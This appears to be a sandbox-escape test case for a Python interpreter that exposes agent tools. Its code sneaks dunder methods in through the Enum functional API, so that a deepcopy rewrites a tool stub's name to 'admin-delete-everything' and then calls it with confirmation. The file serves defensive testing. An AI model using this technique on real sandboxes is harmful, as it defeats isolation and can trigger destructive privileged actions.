# category: bridge
# signal: handler
# plain: skip (needs the sandbox's tools binding)
# tripwire: harmless (the host serves only the tools the program was given)
# source: copy/deepcopy rebuild objects with unguarded setattr from a __reduce_ex__ result; dunders smuggled in through the Enum functional API
import dataclasses
import enum
stub = tools.echo
def reducer(self, protocol):
    return (lambda: stub, (), (None, {"_name": "admin-delete-everything"}))
names = [("ONLY", 1), ("_" * 2 + "deepcopy" + "_" * 2, None), ("_" * 2 + "reduce_ex" + "_" * 2, reducer)]
Gadget = enum.Enum("Gadget", names)
@dataclasses.dataclass
class Box:
    item: object
dataclasses.asdict(Box(Gadget.ONLY))
await stub(confirm=True)
